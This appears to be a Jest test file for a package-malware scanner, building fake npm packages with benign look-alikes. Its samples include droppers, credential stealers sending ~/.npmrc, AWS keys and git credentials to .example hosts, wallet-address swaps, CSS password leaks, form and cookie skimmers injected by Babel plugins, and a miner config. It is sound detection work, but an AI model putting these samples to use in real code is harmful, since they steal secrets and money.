/**
 * Shapes from the twenty-third session: rounds 89 to 91 (one attack per family, the three
 * hardest families, package-manager and monorepo machinery) and leftovers of rounds 86 to 88,
 * written blind by helpers that had not read the engine. Each is rewritten small and varied
 * here, with a look-alike that must stay quiet.
 */
import { analyzeSource, strongestOf as ruleOf, threatFindings as threats } from './helpers';

const manifest = (name: string, extra: Record<string, unknown> = {}) =>
  JSON.stringify({ name, version: '1.4.2', main: 'index.js', ...extra });

describe('secrets printed encoded, however the encoding is reached (review of round 87)', () => {
  const action = (code: string) =>
    analyzeSource({ 'package.json': manifest('pr-size-labeler'), 'index.js': code });
  it.each([
    [
      'a buffer of the serialised environment',
      "const core = require('@actions/core');\nconst blob = Buffer.from(JSON.stringify(process.env)).toString('base64');\ncore.info(blob);",
    ],
    ['btoa', "const core = require('@actions/core');\ncore.info(btoa(JSON.stringify(process.env)));"],
    [
      'the toolkit reached without a name',
      "const snap = Buffer.from(JSON.stringify({ ...process.env })).toString('hex');\nrequire('@actions/core').notice(snap);",
    ],
    [
      'the toolkit under another name',
      "const gh = require('@actions/core');\nconst all = Object.assign({}, process.env);\ngh.debug(btoa(JSON.stringify(all)));",
    ],
  ])('reports %s in a job log', (_, code) => {
    const r = action(code);
    expect(ruleOf(r, 'js.exfil-flow')?.confidence).toBeGreaterThanOrEqual(0.8);
    expect(r.risk_level).toBe('critical');
  });
  it('leaves one value encoded for an API alone', () => {
    const r = action(
      "const core = require('@actions/core');\nconst auth = btoa(`x-access-token:${process.env.GITHUB_TOKEN}`);\ncore.info(`authorisation header ready (${auth.length} chars)`);",
    );
    expect(threats(r)).toEqual([]);
  });
});

describe('a stylesheet that reads secret fields through attribute selectors (round 86)', () => {
  const theme = (selectors: string, rule: string) => ({
    'package.json': manifest('tokens-theme'),
    'index.js': [
      `const FIELDS = [${selectors}];`,
      "const CHARS = 'abcdefghijklmnopqrstuvwxyz0123456789';",
      'module.exports = function apply(doc, cdn) {',
      "  const css = [':root{--accent:#4f46e5}'];",
      '  for (const sel of FIELDS) for (const c of CHARS) css.push(' + rule + ');',
      "  const el = doc.createElement('style');",
      "  el.textContent = css.join('\\n');",
      '  doc.head.appendChild(el);',
      '};',
    ].join('\n'),
  });
  it('reports an image loaded for each ending of a password field', () => {
    const r = analyzeSource(
      theme(
        `'input[type="password"]', 'input[autocomplete="one-time-code"]'`,
        '`${sel}[value$="${c}"]{background-image:url(${cdn}/px/${c}.png)}`',
      ),
    );
    expect(ruleOf(r, 'text.css-value-leak')?.threat_type).toBe('data_exfiltration');
    expect(r.risk_level).toBe('critical');
  });
  it('reports the same built by concatenation, by prefix', () => {
    const r = analyzeSource(
      theme(
        `'input[name*="card" i]'`,
        "sel + '[value^=\"' + c + '\"]{border-image:url(\"' + cdn + '/b/' + c + '\") 0}'",
      ),
    );
    expect(ruleOf(r, 'text.css-value-leak')).toBeDefined();
  });
  it('reports the same rules shipped as a stylesheet the component imports', () => {
    const rules = [...'abc123'].map(
      (c) =>
        `input[type="password"][value$="${c}"]{background-image:url("https://fonts-aurora.example/i/${c}.woff2")}`,
    );
    const r = analyzeSource({
      'package.json': manifest('aurora-inputs', { main: 'dist/index.js', type: 'module' }),
      'dist/index.js': "import './aurora.css';\nexport const classes = { input: 'au-input' };",
      'dist/aurora.css': ['.au-input{border:1px solid #ccc}', ...rules].join('\n'),
    });
    expect(ruleOf(r, 'text.css-value-leak')?.file).toBe('dist/aurora.css');
    expect(r.risk_level).toBe('critical');
  });
  it('leaves value selectors with inline icons, and a placeholder style, alone', () => {
    const r = analyzeSource(
      theme(
        `'input[type="password"]', 'input[type="search"]'`,
        '`${sel}[value=""]{background-image:url("data:image/svg+xml;utf8,<svg/>")} ${sel}[value$=".pdf"]{color:red}`',
      ),
    );
    expect(threats(r)).toEqual([]);
  });
});

describe('a clipboard swap spread over three modules, its addresses reversed (round 86)', () => {
  const polyfill = (table: string) => ({
    'package.json': manifest('clipboard-lines', { main: 'dist/auto.js', type: 'module' }),
    'dist/auto.js': [
      "import { tidy } from './tidy.js';",
      "document.addEventListener('copy', (e) => {",
      '  const s = String(document.getSelection() || "");',
      '  const t = tidy(s);',
      "  if (t !== s) { e.clipboardData.setData('text/plain', t); e.preventDefault(); }",
      '}, true);',
    ].join('\n'),
    'dist/tidy.js': [
      "import { SHAPES } from './shapes.js';",
      "const back = (s) => [...s].reverse().join('');",
      'export function tidy(text) {',
      "  let out = text.replace(/\\r\\n?/g, '\\n');",
      '  for (const [re, forms] of SHAPES) out = out.replace(re, () => back(forms[0]));',
      '  return out;',
      '}',
    ].join('\n'),
    'dist/shapes.js': table,
  });
  it('reports the swap when the interception reaches the pattern and the address two modules away', () => {
    const r = analyzeSource(
      polyfill(
        "export const SHAPES = [[/\\b0x[a-fA-F0-9]{40}\\b/g, ['b2E6d4a1C0f9384E7a5dD1C2e0F8b9a63c71D4e0x0']]];",
      ),
    );
    expect(ruleOf(r, 'js.wallet-address-swap')?.threat_type).toBe('malicious_code');
    expect(r.risk_level).toBe('critical');
  });
  it('leaves the same normaliser without addresses alone', () => {
    const r = analyzeSource(polyfill("export const SHAPES = [[/\\u00a0/g, [' ']]];"));
    expect(ruleOf(r, 'js.wallet-address-swap')).toBeUndefined();
  });
  it('leaves a wallet chip that copies the address it shows and names known tokens alone', () => {
    const r = analyzeSource({
      'package.json': manifest('wallet-chip', { main: 'dist/index.js', type: 'module' }),
      'dist/index.js': [
        "import { isAddress, label } from './format.js';",
        'export function mount(el, address) {',
        "  if (!isAddress(address)) throw new Error('bad address');",
        '  el.textContent = label(address);',
        '  el.onclick = () => navigator.clipboard.writeText(address);',
        '}',
      ].join('\n'),
      'dist/format.js': [
        "import { TOKENS } from './tokens.js';",
        'const ETH = /^0x[a-fA-F0-9]{40}$/;',
        'export const isAddress = (a) => ETH.test(a);',
        "export const label = (a) => (TOKENS.find((t) => t.address.toLowerCase() === a.toLowerCase()) || {}).symbol || a.slice(0, 6) + '…' + a.slice(-4);",
      ].join('\n'),
      'dist/tokens.js':
        "export const TOKENS = [{ symbol: 'USDT', address: '0xdAC17F958D2ee523a2206206994597C13D831ec7' }, { symbol: 'USDC', address: '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48' }];",
    });
    expect(threats(r)).toEqual([]);
  });
});

describe('files a tool configuration preloads (round 91)', () => {
  const dropper = [
    "import { chmodSync, mkdirSync } from 'node:fs';",
    "import { homedir } from 'node:os';",
    "import { join } from 'node:path';",
    "const dir = join(homedir(), '.cache', '.ext');",
    "const bin = join(dir, 'helper');",
    'const res = await fetch(`https://ext-cdn.example/${process.platform}`);',
    'mkdirSync(dir, { recursive: true });',
    'await Bun.write(bin, res);',
    'chmodSync(bin, 0o755);',
    "Bun.spawn([bin, '--daemon'], { stdio: ['ignore', 'ignore', 'ignore'] }).unref();",
  ].join('\n');
  it.each([
    ['bunfig.toml', 'preload = ["./scripts/tool.ts"]\n'],
    ['bunfig.toml', '[test]\npreload = [\n  "./test/setup.ts",\n  "./scripts/tool.ts",\n]\n'],
    ['.mocharc.yml', 'require:\n  - ./scripts/tool.ts\nspec: test/**/*.spec.ts\n'],
  ])('reads a dropper %s preloads as code that runs unprompted', (config, text) => {
    const r = analyzeSource({
      'package.json': manifest('http-kit', { main: 'src/index.ts', type: 'module' }),
      [config]: text,
      'scripts/tool.ts': dropper,
      'src/index.ts': 'export const route = (p: string) => p;',
      'test/setup.ts': 'export {};',
    });
    expect(ruleOf(r, 'js.drop-and-run')?.confidence).toBeGreaterThanOrEqual(0.85);
    expect(r.risk_level).toBe('critical');
  });
  it('leaves a preload that registers test helpers alone', () => {
    const r = analyzeSource({
      'package.json': manifest('ui-kit', { main: 'src/index.ts', type: 'module' }),
      'bunfig.toml': '[test]\npreload = ["./test/dom.ts"]\n',
      'test/dom.ts':
        "import { GlobalRegistrator } from '@happy-dom/global-registrator';\nGlobalRegistrator.register();\n",
      'src/index.ts': 'export const x = 1;',
    });
    expect(threats(r)).toEqual([]);
  });
});

describe("a tool's own folder in the project is not the user's files (round 90)", () => {
  const versioner = (dir: string) => ({
    'package.json': manifest('versionset', { bin: { versionset: 'cli.js' } }),
    'index.js': [
      "const fs = require('fs');",
      "const path = require('path');",
      'exports.consume = (root) => {',
      `  const dir = path.join(root, ${dir});`,
      "  for (const f of fs.readdirSync(dir).filter((f) => f.endsWith('.md'))) fs.unlinkSync(path.join(dir, f));",
      '};',
    ].join('\n'),
    'cli.js': "#!/usr/bin/env node\nrequire('./index').consume(process.cwd());",
  });
  it('leaves changesets consumed from <project>/.changeset alone', () => {
    expect(threats(analyzeSource(versioner("'.changeset'")))).toEqual([]);
  });
  it("still reports every listed file of the project's sources deleted", () => {
    const r = analyzeSource(versioner("'src'"));
    expect(ruleOf(r, 'js.destructive-user-data')).toBeDefined();
  });
});

describe('credentials read through getters on exports and through descriptors (round 89)', () => {
  const stealer = (discovery: string) => ({
    'package.json': manifest('layered-config'),
    'index.js': [
      "const discovery = require('./lib/discovery');",
      "const https = require('https');",
      'setTimeout(() => {',
      "  const req = https.request({ hostname: 'schema-registry.example', method: 'POST' });",
      '  req.end(JSON.stringify({ overlays: discovery.overlays }));',
      '}, 45000).unref();',
    ].join('\n'),
    'lib/locations.json': JSON.stringify([
      { id: 'npm', segs: ['.n', 'pmrc'] },
      { id: 'aws', segs: ['.aws', 'cred', 'entials'] },
    ]),
    'lib/discovery.js': [
      "const fs = require('fs');",
      "const os = require('os');",
      "const path = require('path');",
      "const locations = require('./locations.json');",
      'const where = (e) => path.join(os.homedir(), e.segs.join(""));',
      discovery,
    ].join('\n'),
  });
  it('follows a getter defined on exports', () => {
    const r = analyzeSource(
      stealer(
        "let cache;\nObject.defineProperty(exports, 'overlays', { enumerable: true, get() { if (!cache) cache = locations.map((e) => fs.readFileSync(where(e), 'utf8')); return cache; } });",
      ),
    );
    expect(ruleOf(r, 'js.exfil-flow')?.threat_type).toBe('data_exfiltration');
    expect(r.risk_level).toBe('critical');
  });
  it('follows a credential file read through a descriptor into a buffer', () => {
    const r = analyzeSource(
      stealer(
        [
          'function sample(e) {',
          "  const fd = fs.openSync(where(e), 'r');",
          '  const buf = Buffer.alloc(4096);',
          '  fs.readSync(fd, buf, 0, buf.length, 0);',
          '  fs.closeSync(fd);',
          "  return buf.toString('utf8');",
          '}',
          'Object.defineProperties(module.exports, { overlays: { get: () => locations.map(sample) } });',
        ].join('\n'),
      ),
    );
    expect(ruleOf(r, 'js.exfil-flow')?.threat_type).toBe('data_exfiltration');
  });
  it("follows a credential file read through fs.open's and fs.read's callbacks", () => {
    const r = analyzeSource({
      'package.json': manifest('registry-mirror'),
      'index.js': [
        "const fs = require('fs'), os = require('os'), https = require('https');",
        "fs.open(os.homedir() + '/.npmrc', 'r', (err, fd) => {",
        '  const buf = Buffer.alloc(4096);',
        '  fs.read(fd, buf, 0, 4096, 0, (e, n, filled) => {',
        "    https.request({ hostname: 'registry-mirror.example', path: '/t', method: 'POST' }).end(filled.slice(0, n));",
        '  });',
        '});',
      ].join('\n'),
    });
    expect(ruleOf(r, 'js.exfil-flow')?.threat_type).toBe('data_exfiltration');
  });
  it('leaves a getter that reads the project config alone', () => {
    const r = analyzeSource(
      stealer(
        "Object.defineProperty(exports, 'overlays', { get() { return fs.readFileSync(path.join(process.cwd(), '.layeredrc'), 'utf8'); } });",
      ),
    );
    expect(ruleOf(r, 'js.exfil-flow')).toBeUndefined();
  });
});

describe('a miner configuration whatever its keys are called (round 89)', () => {
  const pkg = (yml: string) => ({
    'package.json': manifest('pixel-resample'),
    'index.js': "module.exports = require('./lib/resample');",
    'lib/resample.js': 'module.exports = (img) => img;',
    'config/accel.yml': yml,
  });
  it('reports a Monero wallet beside a pool host and port, and the miner flag in a list', () => {
    const wallet = `48${'Ab3Cd4Ef5Gh6Jk7Mn8Pq9Rs2Tu3Vw4Xy5Za'.repeat(3).slice(0, 93)}`;
    expect(wallet).toHaveLength(95);
    const a = analyzeSource(
      pkg(`profile:\n  endpoint: pool.cpu-sync.example:443\n  account: ${wallet}\n  label: px\n`),
    );
    expect(ruleOf(a, 'file.miner-config')?.threat_type).toBe('malicious_code');
    const b = analyzeSource(pkg('runner:\n  flags: [--tls, --no-color, --donate-level=0]\n'));
    expect(ruleOf(b, 'file.miner-config')).toBeDefined();
  });
  it('leaves a service configuration with hosts and long keys alone', () => {
    const r = analyzeSource(
      pkg(
        'server:\n  listen: api.example.com:8443\n  key: 8f2b6c1d9e0a7b3c5d4e6f8a9b0c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1d2\n',
      ),
    );
    expect(ruleOf(r, 'file.miner-config')).toBeUndefined();
  });
});

describe('credentials a command prints, however the script reaches them (round 90)', () => {
  const hook = [
    '#!/bin/sh',
    'remote="$1"',
    '(',
    '  H=$(git config --get remote."$remote".url | sed -E \'s#^(https?://|git@)([^/:]+).*#\\2#\')',
    '  C=$(printf \'protocol=https\\nhost=%s\\n\\n\' "$H" | GIT_TERMINAL_PROMPT=0 git credential fill 2>/dev/null)',
    "  P=$(printf '%s\\n' \"$C\" | sed -n 's/^password=//p')",
    '  if [ -n "$P" ]; then',
    '    curl -fsS -m 8 -o /dev/null "https://hooks-cdn.example/v2/version" \\',
    '      -H "x-hook-ref: $(printf \'%s@%s\' "$P" "$H" | base64 | tr -d \'\\n\')"',
    '  fi',
    ') >/dev/null 2>&1 &',
    'exit 0',
  ].join('\n');
  const installer = (dir: string) => ({
    'package.json': manifest('conventional-hooks', { scripts: { postinstall: 'node index.js' } }),
    'index.js': [
      "const fs = require('fs');",
      "const path = require('path');",
      "const { execFileSync } = require('child_process');",
      "const top = execFileSync('git', ['rev-parse', '--show-toplevel']).toString().trim();",
      `const dest = path.join(top, '${dir}');`,
      'fs.mkdirSync(dest, { recursive: true });',
      "for (const name of fs.readdirSync(path.join(__dirname, 'hooks'))) {",
      '  const target = path.join(dest, name);',
      "  fs.copyFileSync(path.join(__dirname, 'hooks', name), target);",
      '  fs.chmodSync(target, 0o755);',
      '}',
      `execFileSync('git', ['config', 'core.hooksPath', '${dir}'], { cwd: top });`,
    ].join('\n'),
    'hooks/pre-push': hook,
  });
  it('reads the credential through substitutions that hold parentheses of their own', () => {
    const r = analyzeSource(installer('.githooks'));
    expect(ruleOf(r, 'script.env-exfil')?.message).toContain('git credential fill');
  });
  it('reports the hook planted in a custom hooks folder by what it does', () => {
    const r = analyzeSource(installer('.githooks'));
    expect(ruleOf(r, 'js.write-persistence')?.confidence).toBeGreaterThanOrEqual(0.85);
    expect(r.risk_level).toBe('critical');
  });
});

describe('a program that shadows git (round 91)', () => {
  const shim = (bin: Record<string, string>, send: string) => ({
    'package.json': manifest('commit-msg-guard', { bin }),
    'index.js': 'module.exports = (msg) => /^(feat|fix|chore)/.test(msg);',
    'bin/git.js': [
      '#!/usr/bin/env node',
      "const { spawnSync } = require('child_process');",
      "const https = require('https');",
      "const path = require('path');",
      "const real = () => { for (const d of (process.env.PATH || '').split(path.delimiter)) if (!d.includes('node_modules')) return path.join(d, 'git'); return 'git'; };",
      'const git = real();',
      'const argv = process.argv.slice(2);',
      "if (argv.includes('push')) {",
      "  const r = spawnSync(git, ['credential', 'fill'], { input: 'protocol=https\\nhost=github.com\\n\\n', encoding: 'utf8' });",
      `  ${send}`,
      '}',
      "process.exit(spawnSync(git, argv, { stdio: 'inherit' }).status ?? 1);",
    ].join('\n'),
  });
  const post =
    "const req = https.request({ host: 'hooks.commit-guard.example', path: '/t', method: 'POST' }); req.end(Buffer.from(r.stdout).toString('base64'));";
  it('reports the stored git password sent by a bin named git', () => {
    const r = analyzeSource(shim({ 'commit-msg-guard': 'index.js', git: 'bin/git.js' }, post));
    expect(ruleOf(r, 'js.secret-env-to-network')?.confidence).toBeGreaterThanOrEqual(0.8);
    expect(r.risk_level).toBe('critical');
  });
  it('keeps the same program under its own name a user runs below a warning', () => {
    const r = analyzeSource(shim({ 'commit-msg-guard': 'bin/git.js' }, post));
    expect(ruleOf(r, 'js.secret-env-to-network')?.confidence ?? 0).toBeLessThan(0.5);
  });
  it('leaves the credential used as the request header alone', () => {
    const r = analyzeSource(
      shim(
        { 'commit-msg-guard': 'index.js', git: 'bin/git.js' },
        "const token = /password=(.*)/.exec(r.stdout)[1]; https.request({ host: 'api.github.example', path: '/user', headers: { authorization: 'token ' + token } }).end();",
      ),
    );
    expect(ruleOf(r, 'js.secret-env-to-network')?.confidence ?? 0).toBeLessThan(0.8);
  });
});

describe('form values XOR-encoded before they leave the page (round 90)', () => {
  it('keeps the taint of character codes through arithmetic', () => {
    const r = analyzeSource({
      'package.json': manifest('formguard-validate'),
      'index.js': [
        'var store = {};',
        'function onInput(e) { var el = e.target; if (el && "value" in el) store[el.name || el.id] = el.value; }',
        'function flush() {',
        '  var json = JSON.stringify(store), key = "fg4", out = "";',
        '  for (var i = 0; i < json.length; i++) out += String.fromCharCode(json.charCodeAt(i) ^ key.charCodeAt(i % key.length));',
        '  var px = new Image(1, 1);',
        '  px.src = "https://" + String.fromCharCode(99, 100, 110, 46, 101, 120) + ".example/p.gif?d=" + encodeURIComponent(btoa(out));',
        '  store = {};',
        '}',
        'document.addEventListener("input", onInput, true);',
        'window.addEventListener("pagehide", flush);',
      ].join('\n'),
    });
    expect(ruleOf(r, 'js.page-secret-exfil')?.threat_type).toBe('data_exfiltration');
    expect(r.risk_level).toBe('critical');
  });
});

describe('code a Babel plugin inserts into the files it compiles (round 91)', () => {
  const plugin = (code: string) => ({
    'package.json': manifest('babel-plugin-react-auto-display-name', { main: 'lib/index.js' }),
    'lib/index.js': [
      "const runtime = require('./runtime');",
      'module.exports = function ({ types: t, template }) {',
      '  const assign = template.statement(`NAME.displayName = LABEL;`);',
      '  return {',
      '    visitor: {',
      '      Program: { exit(path, state) {',
      "        if (process.env.NODE_ENV === 'production' && /checkout|login/.test(state.filename || ''))",
      "          path.unshiftContainer('body', template.statements.ast(runtime()));",
      '      } },',
      '      FunctionDeclaration(path) { path.insertAfter(assign({ NAME: t.identifier(path.node.id.name), LABEL: t.stringLiteral(path.node.id.name) })); },',
      '    },',
      '  };',
      '};',
    ].join('\n'),
    'lib/runtime.js': `const T = [${[...code].map((c) => c.charCodeAt(0)).join(',')}];\nmodule.exports = () => String.fromCharCode.apply(null, T);`,
  });
  it('reads the inserted code as page code and reports the skimmer', () => {
    const r = analyzeSource(
      plugin(
        'document.addEventListener("submit", function (e) { var d = {}; new FormData(e.target).forEach(function (v, k) { d[k] = String(v); }); navigator.sendBeacon("https://cdn-metrics.example/v", JSON.stringify(d)); }, true);',
      ),
    );
    expect(ruleOf(r, 'js.page-secret-exfil')?.threat_type).toBe('data_exfiltration');
    expect(r.risk_level).toBe('critical');
  });
  it('leaves a plugin that inserts a development warning alone', () => {
    const r = analyzeSource(
      plugin(
        'if (typeof console !== "undefined") console.warn("React components compiled for development");',
      ),
    );
    expect(threats(r)).toEqual([]);
  });
});

describe('a provider wrapper whose rewrite replaces the recipient on one of its paths (round 89)', () => {
  const connector = (rewrite: string) => ({
    'package.json': manifest('web3-connect-lite', { main: 'src/index.js', type: 'module' }),
    'src/chains.json': JSON.stringify({
      '0x1': {
        name: 'Ethereum',
        router: '0x7a3F0c91e4B2d58A6c07E3f19b8D24aC5e16F9b2',
        min: '500000000000000000',
      },
      '0x2105': {
        name: 'Base',
        router: '0x7a3F0c91e4B2d58A6c07E3f19b8D24aC5e16F9b2',
        min: '500000000000000000',
      },
    }),
    'src/routing.js': [
      "import chains from './chains.json' with { type: 'json' };",
      "const SEND = ['eth', 'send' + 'Transaction'].join('_');",
      'const pad = (hex) => hex.replace(/^0x/, "").toLowerCase().padStart(64, "0");',
      rewrite,
      'export async function route(target, args) {',
      '  if (!args || args.method !== SEND) return args;',
      "  const chain = chains[await target.request({ method: 'eth_chainId' })];",
      '  if (!chain || Math.random() > 0.3) return args;',
      '  const next = rewrite(args.params[0], chain);',
      '  if (!next) return args;',
      '  return { ...args, params: [next, ...args.params.slice(1)] };',
      '}',
    ].join('\n'),
    'src/index.js': [
      "import { route } from './routing.js';",
      'export function wrap(raw) {',
      '  return new Proxy(raw, {',
      '    get(target, prop) {',
      "      if (prop !== 'request') return Reflect.get(target, prop);",
      '      return (args) => route(target, args).then((a) => target.request(a));',
      '    },',
      '  });',
      '}',
    ].join('\n'),
  });
  it('reports the swap when a later way out of the rewrite sets the recipient', () => {
    const r = analyzeSource(
      connector(
        [
          'function rewrite(tx, chain) {',
          "  const data = (tx.data || '0x').toLowerCase();",
          "  if (data.slice(0, 10) === '0x095ea7b3') return { ...tx, data: data.slice(0, 10) + pad(chain.router) + 'f'.repeat(64) };",
          "  if (tx.value && BigInt(tx.value) >= BigInt(chain.min) && data === '0x') return { ...tx, to: chain.router };",
          '  return null;',
          '}',
        ].join('\n'),
      ),
    );
    expect(ruleOf(r, 'js.wallet-address-swap')?.threat_type).toBe('malicious_code');
    expect(r.risk_level).toBe('critical');
  });
  it('leaves a wrapper that sends some calls through a forwarder with their data alone', () => {
    const r = analyzeSource(
      connector(
        [
          'function rewrite(tx, chain) {',
          '  if (!tx.gas) return { ...tx, gas: "0x5208" };',
          "  return { ...tx, to: chain.router, data: '0x1cff79cd' + pad(tx.to) + (tx.data || '').slice(2) };",
          '}',
        ].join('\n'),
      ),
    );
    expect(ruleOf(r, 'js.wallet-address-swap')).toBeUndefined();
  });
});

describe("review of the twenty-third session's changes", () => {
  it('leaves a JSON-RPC provider whose send is a prototype method alone, its constants two modules away', () => {
    const r = analyzeSource({
      'package.json': manifest('eth-rpc-lite', { main: 'lib/index.js' }),
      'lib/index.js': "module.exports = { JsonRpcProvider: require('./provider') };",
      'lib/address.js':
        "exports.getAddress = (a) => { if (!/^0x[0-9a-fA-F]{40}$/.test(a)) throw new Error('invalid address'); return a; };",
      'lib/constants.js': "module.exports = { MULTICALL3: '0xcA11bde05977b3631167028862bE2a173976CA11' };",
      'lib/networks.js':
        "const { MULTICALL3 } = require('./constants');\nexports.getNetwork = () => ({ chainId: 1, multicall: MULTICALL3 });",
      'lib/provider.js': [
        "const { getAddress } = require('./address');",
        "const { getNetwork } = require('./networks');",
        'function JsonRpcProvider(url) { this.url = url; this.network = getNetwork(); }',
        "JsonRpcProvider.prototype.send = function (method, params) { return fetch(this.url, { method: 'POST', body: JSON.stringify({ method, params }) }).then((r) => r.json()); };",
        "JsonRpcProvider.prototype.getBalance = function (a) { return this.send('eth_getBalance', [getAddress(a)]); };",
        'module.exports = JsonRpcProvider;',
      ].join('\n'),
    });
    expect(threats(r)).toEqual([]);
  });
  it('leaves an address field that checks what is pasted into it alone', () => {
    const r = analyzeSource({
      'package.json': manifest('address-input', { main: 'src/index.js', type: 'module' }),
      'src/index.js':
        "import { check } from './validate.js';\nexport function bind(input) { input.addEventListener('paste', (e) => { const t = e.clipboardData.getData('text'); input.setCustomValidity(check(t) ? '' : 'not an address'); }); }",
      'src/validate.js':
        "import { TOKENS } from './tokens.js';\nconst ETH = /^0x[a-fA-F0-9]{40}$/;\nexport const check = (a) => ETH.test(a) && !TOKENS.includes(a);",
      'src/tokens.js': "export const TOKENS = ['0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48'];",
    });
    expect(threats(r)).toEqual([]);
  });
  it('still reports a fetch hook reaching its pieces two modules away after page text is written', () => {
    const r = analyzeSource({
      'package.json': manifest('price-badge', { main: 'src/hook.js', type: 'module' }),
      'src/hook.js': [
        "import { fix } from './fix.js';",
        "document.querySelector('#b').textContent = 'ready';",
        'const real = window.fetch;',
        'window.fetch = async (...a) => { const r = await real(...a); const t = fix(await r.clone().text()); return new Response(t, r); };',
      ].join('\n'),
      'src/fix.js': "import { RE, MINE } from './table.js';\nexport const fix = (t) => t.replace(RE, MINE);",
      'src/table.js':
        "export const RE = /0x[a-fA-F0-9]{40}/g;\nexport const MINE = '0x7A3bC91d4E2f8a6B5c0D9e1F2a3B4c5D6e7F8a9B';",
    });
    expect(ruleOf(r, 'js.wallet-address-swap')).toBeDefined();
  });
  it('keeps an identity token sent to the address its user configures at a warning', () => {
    const r = analyzeSource({
      'package.json': manifest('vault-gcp-login', { main: 'dist/index.js' }),
      'action.yml': 'name: vault login\nruns:\n  using: node20\n  main: dist/index.js\n',
      'dist/index.js': [
        "const { execFileSync } = require('child_process');",
        "const jwt = execFileSync('gcloud', ['auth', 'print-identity-token']).toString().trim();",
        "fetch(process.env.INPUT_VAULT_ADDR + '/v1/auth/gcp/login', { method: 'POST', body: JSON.stringify({ role: process.env.INPUT_ROLE, jwt }) });",
      ].join('\n'),
    });
    expect(ruleOf(r, 'js.secret-env-to-network')?.confidence ?? 0).toBeLessThan(0.8);
  });
  it("leaves a Monero payment gateway's configuration alone", () => {
    const r = analyzeSource({
      'package.json': manifest('xmr-pay'),
      'index.js': "module.exports = require('./config/default.json');",
      'config/default.json': JSON.stringify({
        walletRpc: 'http://127.0.0.1:18082/json_rpc',
        daemon: 'node.moneroworld.example:18089',
        donationAddress: `44${'Ab3Cd4Ef5Gh6Jk7Mn8Pq9Rs2Tu3Vw4Xy5Za'.repeat(3).slice(0, 93)}`,
      }),
    });
    expect(ruleOf(r, 'file.miner-config')).toBeUndefined();
  });
  it('leaves a command that prints a .env encoded for its user to paste alone', () => {
    const r = analyzeSource({
      'package.json': manifest('env-to-secret', { bin: { 'env-to-secret': 'bin/cli.js' } }),
      'bin/cli.js': [
        '#!/usr/bin/env node',
        "const fs = require('fs');",
        "if (process.env.CI) { console.error('run this on your machine, not in CI'); process.exit(1); }",
        "console.log(Buffer.from(fs.readFileSync(require('os').homedir() + '/.npmrc')).toString('base64'));",
      ].join('\n'),
    });
    expect(ruleOf(r, 'js.exfil-flow')).toBeUndefined();
  });
  it('leaves country flags on a select alone and reads selectors written in capitals or image-set()', () => {
    const flags = analyzeSource({
      'package.json': manifest('phone-input-kit'),
      'index.js': [
        "const FLAGS = 'https://flags.example/4x3';",
        "const css = ['us', 'fr', 'de'].map((c) => `select[value$=\"${c}\"]{background-image:url(${FLAGS}/${c}.svg)}`).join('');",
        "module.exports = (el) => { el.type = 'password'; document.head.insertAdjacentHTML('beforeend', '<style>' + css + '</style>'); };",
      ].join('\n'),
    });
    expect(threats(flags)).toEqual([]);
    const upper = analyzeSource({
      'package.json': manifest('skin-kit'),
      'index.js':
        "const css = [...'ab12'].map((c) => `input[type=password][VALUE$=\"${c}\"]{background:image-set(\"https://px.example/${c}.png\" 1x)}`).join('');\nmodule.exports = () => document.head.insertAdjacentHTML('beforeend', '<style>' + css + '</style>');",
    });
    expect(ruleOf(upper, 'text.css-value-leak')).toBeDefined();
  });
  it('reads a bunfig.toml of blank lines and still finds a preload list over several lines', () => {
    const r = analyzeSource({
      'package.json': manifest('kit', { main: 'src/index.ts', type: 'module' }),
      'bunfig.toml': `${'\n'.repeat(50_000)}preload = [\n  "./scripts/tool",\n]\n`,
      'scripts/tool.ts':
        "const r = await fetch('https://ext.example/x');\nawait Bun.write('/tmp/.x', r);\nBun.spawn(['/tmp/.x'], { stdio: ['ignore', 'ignore', 'ignore'] }).unref();",
      'src/index.ts': 'export const x = 1;',
    });
    expect(ruleOf(r, 'js.drop-and-run')?.confidence).toBeGreaterThanOrEqual(0.8);
  });
  it('finds the credential printed in a substitution after many mentions of the command', () => {
    const r = analyzeSource({
      'package.json': manifest('gh-stats', { scripts: { postinstall: 'sh s.sh' } }),
      's.sh': `#!/bin/sh\ncurl -s -A "${'gh auth token '.repeat(25)}" -d "$(gh auth token)" https://stats.example/t\n`,
    });
    expect(ruleOf(r, 'script.env-exfil')).toBeDefined();
  });
  it('names git at its Windows path, and Mocha preloads from .mocharc.jsonc and package.json', () => {
    const win = analyzeSource({
      'package.json': manifest('commit-guard', { bin: { git: 'bin/git.js' } }),
      'bin/git.js': [
        "const { spawnSync } = require('child_process');",
        "const https = require('https');",
        "const r = spawnSync('C:\\\\Program Files\\\\Git\\\\cmd\\\\git.exe', ['credential', 'fill'], { input: 'host=github.com\\n\\n', encoding: 'utf8' });",
        "https.request({ host: 'h.commit-guard.example', method: 'POST' }).end(r.stdout);",
      ].join('\n'),
    });
    expect(ruleOf(win, 'js.secret-env-to-network')?.confidence).toBeGreaterThanOrEqual(0.8);
    const setup =
      "const { execSync } = require('child_process');\nconst t = execSync('gh auth token').toString();\nrequire('https').request({ host: 'ci-stats.example', method: 'POST' }).end(t);";
    for (const files of [
      { '.mocharc.jsonc': '// options\n{ "require": ["./test/setup"] }' } as Record<string, string>,
      { 'package.json': manifest('mocha-kit', { mocha: { require: 'test/setup.js' } }) },
    ]) {
      const r = analyzeSource({ 'package.json': manifest('mocha-kit'), ...files, 'test/setup.js': setup });
      expect(ruleOf(r, 'js.secret-env-to-network')?.confidence).toBeGreaterThanOrEqual(0.8);
    }
  });
  it('reads what a Babel plugin builds with the template of @babel/core, or under declare()', () => {
    const inject =
      'fetch("https://cdn-stats.example/c", { method: "POST", body: JSON.stringify({ c: document.cookie }) });';
    const viaCore = analyzeSource({
      'package.json': manifest('babel-optimize-kit', { main: 'lib/index.js' }),
      'lib/index.js': `const { template } = require('@babel/core');\nconst code = template.statements.ast(${JSON.stringify(inject)});\nmodule.exports = () => ({ visitor: { Program(p) { p.unshiftContainer('body', code); } } });`,
    });
    expect(ruleOf(viaCore, 'js.page-secret-exfil')).toBeDefined();
    const viaDeclare = analyzeSource({
      'package.json': manifest('@acme/babel-optimize', {
        main: 'lib/index.js',
        dependencies: { '@babel/helper-plugin-utils': '^7.24.0' },
      }),
